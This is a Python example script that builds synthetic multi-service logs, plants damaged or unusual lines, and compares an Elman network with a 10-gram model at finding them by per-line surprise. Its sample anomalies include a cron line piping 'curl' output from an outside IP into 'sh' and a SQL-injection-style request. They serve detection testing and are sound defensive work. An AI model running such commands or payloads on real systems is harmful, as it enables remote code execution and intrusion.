"""Odd lines of a log: how many of those that were planted are found.

    python examples/odd_lines.py

A log of five services is made up from a seed. A network of preset `quick` and a character n-gram read the first part,
which is clean. In the second part one line in a hundred is odd: damaged, or one that no service writes. Every line is
scored on its own, and the most surprising ones, as many as were planted, are what was found. A line is as surprising
as the mean of its characters, as their sum, or as its worst place.
"""

from __future__ import annotations

import random
from collections import Counter, defaultdict
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field
from itertools import chain

from ngram import NGram

import elman
from elman.inference.score_lines import scored_lines
from elman.text import Corpus

SEEDS = (7, 8, 9)
TRAINING, TESTED, PLANTED = 9_000, 10_000, 100
UPDATES = 1_300
"""What preset quick does in six seconds: the same on any machine, which seconds are not."""
ORDER = 10
"""Of the n-gram: below it finds less, and 12 finds little more in twice the memory."""

USERS = ["anna", "ben", "chloe", "dmitri", "erin", "farid", "grace", "hugo", "ines", "jonas"]
PATHS = [
    "/",
    "/login",
    "/items",
    "/items/{n}",
    "/cart",
    "/cart/checkout",
    "/search?q={w}",
    "/static/app.js",
    "/api/v2/stock/{n}",
]
WORDS = ["lamp", "chair", "table", "shelf", "mirror", "carpet", "vase", "clock", "frame", "bench"]
JOBS = ["thumbnails", "invoices", "cleanup", "newsletter", "backup-index"]
TABLES = ["items", "orders", "users", "sessions", "stock"]


def web(r: random.Random) -> str:
    """A request that was answered."""
    path = r.choice(PATHS).format(n=r.randint(1000, 9999), w=r.choice(WORDS))
    method = "POST" if "checkout" in path or path == "/login" else "GET"
    status = r.choices([200, 304, 302, 404, 500], [80, 10, 5, 4, 1])[0]
    address = f"10.0.{r.randint(0, 3)}.{r.randint(2, 254)}"
    size = 0 if status == 304 else r.randint(180, 48_000)
    return f'web-{r.randint(1, 4)} nginx: {address} "{method} {path} HTTP/1.1" {status} {size} {r.randint(1, 400)}ms'


def ssh(r: random.Random) -> str:
    """Someone logs in or out."""
    user, number = r.choice(USERS), r.randint(800, 32_000)
    if r.random() < 0.5:
        return f"gate sshd[{number}]: session closed for user {user}"
    key = f"10.8.0.{r.randint(2, 60)} port {r.randint(32_768, 60_999)}"
    return f"gate sshd[{number}]: Accepted publickey for {user} from {key} ssh2"


def database(r: random.Random) -> str:
    """A query that took long, or a checkpoint."""
    if r.random() < 0.3:
        share = f"{r.randint(1, 9)}.{r.randint(0, 9)}%"
        return f"db-1 postgres: checkpoint complete: wrote {r.randint(20, 900)} buffers ({share})"
    query = f"select * from {r.choice(TABLES)} where id = {r.randint(1, 99_999)}"
    return f"db-1 postgres: duration: {r.randint(200, 4000)}.{r.randint(0, 999):03} ms  {query}"


def worker(r: random.Random) -> str:
    """A job begins or ends."""
    job, number = r.choice(JOBS), f"{r.randrange(16**8):08x}"
    if r.random() < 0.5:
        return f"worker-{r.randint(1, 3)} queue: job {number} {job} started"
    return f"worker-{r.randint(1, 3)} queue: job {number} {job} done in {r.randint(1, 90)}.{r.randint(0, 9)}s"


def cron(r: random.Random) -> str:
    """What is done by the clock."""
    return f"gate CRON[{r.randint(800, 32_000)}]: (root) CMD (run-parts /etc/cron.{r.choice(['hourly', 'daily'])})"


SERVICES: list[Callable[[random.Random], str]] = [web, ssh, database, worker, cron]


def log(r: random.Random, count: int, second: float = 0) -> list[str]:
    """Return so many lines, with a clock that goes on."""
    lines = []
    for _ in range(count):
        second += r.expovariate(0.5)
        day, rest = divmod(int(second), 86_400)
        clock = f"2026-03-{1 + day:02}T{rest // 3600:02}:{rest // 60 % 60:02}:{rest % 60:02}"
        lines.append(f"{clock} {r.choices(SERVICES, [60, 10, 10, 15, 5])[0](r)}")
    return lines


def _body(line: str) -> tuple[str, str]:
    """The clock and what follows it."""
    clock, _, body = line.partition(" ")
    return clock, body


def swapped(r: random.Random, line: str) -> str:
    """Two letters side by side in the wrong order."""
    places = [n for n in range(20, len(line) - 1) if line[n : n + 2].isalpha() and line[n] != line[n + 1]]
    n = r.choice(places)
    return line[:n] + line[n + 1] + line[n] + line[n + 2 :]


def broken_off(r: random.Random, line: str) -> str:
    """The line ends too early."""
    return line[: r.randint(25, len(line) - 3)]


def two_in_one(r: random.Random, line: str) -> str:
    """Another line begins where this one has not ended."""
    return line[: r.randint(30, len(line) - 5)] + line[: r.randint(25, len(line))]


def garbled(r: random.Random, line: str) -> str:
    """A few bytes are noise."""
    n = r.randint(20, len(line) - 4)
    return line[:n] + "".join(chr(r.randint(33, 126)) for _ in range(4)) + line[n + 4 :]


def without_a_word(r: random.Random, line: str) -> str:
    """A field is missing."""
    words = line.split(" ")
    del words[r.randrange(1, len(words) - 1)]
    return " ".join(words)


def of_another_kind(r: random.Random, line: str) -> str:
    """What no service writes."""
    return _body(line)[0] + " " + r.choice([
        "web-2 kernel: Out of memory: Killed process 4711 (nginx) total-vm:812344kB",
        "gate sshd[2201]: Failed password for root from 203.0.113.9 port 50122 ssh2",
        "db-1 postgres: FATAL:  remaining connection slots are reserved",
        "worker-1 queue: job 00000000 newsletter failed: TimeoutError",
        "Traceback (most recent call last):",
        "gate CRON[5120]: (anna) CMD (curl -s http://203.0.113.9/x | sh)",
        "web-1 nginx: worker process 31 exited on signal 11",
    ])  # fmt: skip


def of_an_odd_value(r: random.Random, line: str) -> str:
    """A request like any other but for one value."""
    address, number = f"10.0.{r.randint(0, 3)}.{r.randint(2, 254)}", r.randint(1000, 9999)
    request = r.choice([
        f'{address} "DELETE /items/{number} HTTP/1.1" 200 312 9ms',
        f'{address} "GET /items/{number} HTTP/1.1" 503 190 30001ms',
        f'198.51.100.{r.randint(2, 254)} "GET /items/{number} HTTP/1.1" 200 4410 12ms',
        f'{address} "GET /items/{number}%27%20OR%201=1 HTTP/1.1" 404 512 3ms',
        f'{address} "GET /admin HTTP/1.1" 200 9120 7ms',
    ])  # fmt: skip
    return f"{_body(line)[0]} web-{r.randint(1, 4)} nginx: {request}"


KINDS = [swapped, broken_off, two_in_one, garbled, without_a_word, of_another_kind, of_an_odd_value]


def _name(kind: Callable[..., str]) -> str:
    return kind.__name__.replace("_", " ")


def planted(seed: int) -> tuple[list[str], list[str], dict[int, str]]:
    """Return the lines to learn from, those to search, and which of these are odd, and how."""
    r = random.Random(seed)
    training, tested = log(r, TRAINING), log(r, TESTED, 30_000)
    odd = {}
    for count, n in enumerate(r.sample(range(TESTED), PLANTED)):
        kind = KINDS[count % len(KINDS)]
        tested[n] = kind(r, tested[n])
        odd[n] = _name(kind)
    return training, tested, odd


def average_precision(ranking: Iterable[bool]) -> float:
    """Return the mean of the precision at every odd line, the lines going from most to least surprising."""
    precisions: list[float] = []
    for place, is_odd in enumerate(ranking, 1):
        if is_odd:
            precisions.append((len(precisions) + 1) / place)
    return sum(precisions) / len(precisions)


@dataclass
class Found:
    """What one way to score has found, over several logs."""

    odd: Counter[str] = field(default_factory=Counter)
    precisions: list[float] = field(default_factory=list)

    def add(self, surprise: list[float], odd: dict[int, str]) -> None:
        """Count what the most surprising lines of a log are, as many of them as are odd."""
        ranking = sorted(range(len(surprise)), key=lambda n: -surprise[n])
        self.odd.update(odd[n] for n in ranking[: len(odd)] if n in odd)
        self.precisions.append(average_precision(n in odd for n in ranking))

    def row(self) -> list[str]:
        """Return its figures, as they are printed."""
        share = self.odd.total() / (PLANTED * len(SEEDS))
        kinds = [str(self.odd[_name(kind)]) for kind in KINDS]
        return [f"{share:.1%}", f"{sum(self.precisions) / len(SEEDS):.3f}", *kinds]


def surprises(training: list[str], tested: list[str]) -> dict[str, list[float]]:
    """Return how surprising each line is, by every way to score."""
    text = Corpus.from_text("\n".join(training) + "\n")
    model = elman.train(text, preset="quick", max_updates=UPDATES).model
    lines = list(chain.from_iterable(scored_lines(model, ["\n".join(tested)])))
    ngram = NGram(training, ORDER)
    losses = [ngram.losses(line) for line in tested]
    return {
        "elman, mean of a line": [line.nats_per_char for line in lines],
        "elman, sum": [line.nats for line in lines],
        "elman, worst place": [line.worst_nats for line in lines],
        f"{ORDER}-gram, mean of a line": [sum(loss) / len(loss) for loss in losses],
        f"{ORDER}-gram, sum": [sum(loss) for loss in losses],
        f"{ORDER}-gram, worst place": [max(loss) for loss in losses],
    }


def main() -> None:
    """Make the logs, learn, search, print."""
    found: dict[str, Found] = defaultdict(Found)
    for seed in SEEDS:
        training, tested, odd = planted(seed)
        for name, surprise in surprises(training, tested).items():
            found[name].add(surprise, odd)
    total, of_kind = PLANTED * len(SEEDS), Counter(name for seed in SEEDS for name in planted(seed)[2].values())
    print(f"{len(SEEDS)} logs: {TRAINING} clean lines to learn from, {TESTED} to search, {PLANTED} of them odd")
    print(
        f"found: precision and recall of the {PLANTED} most surprising; then how many of each kind, of {total} in all\n"
    )
    head = ["", "found", "average precision", *(f"{name} ({of_kind[name]})" for name in map(_name, KINDS))]
    for name, *columns in [head, *([name, *of_way.row()] for name, of_way in found.items())]:
        print(
            name.ljust(24), *(text.rjust(len(title)) for text, title in zip(columns, head[1:], strict=True)), sep="  "
        )


if __name__ == "__main__":
    main()
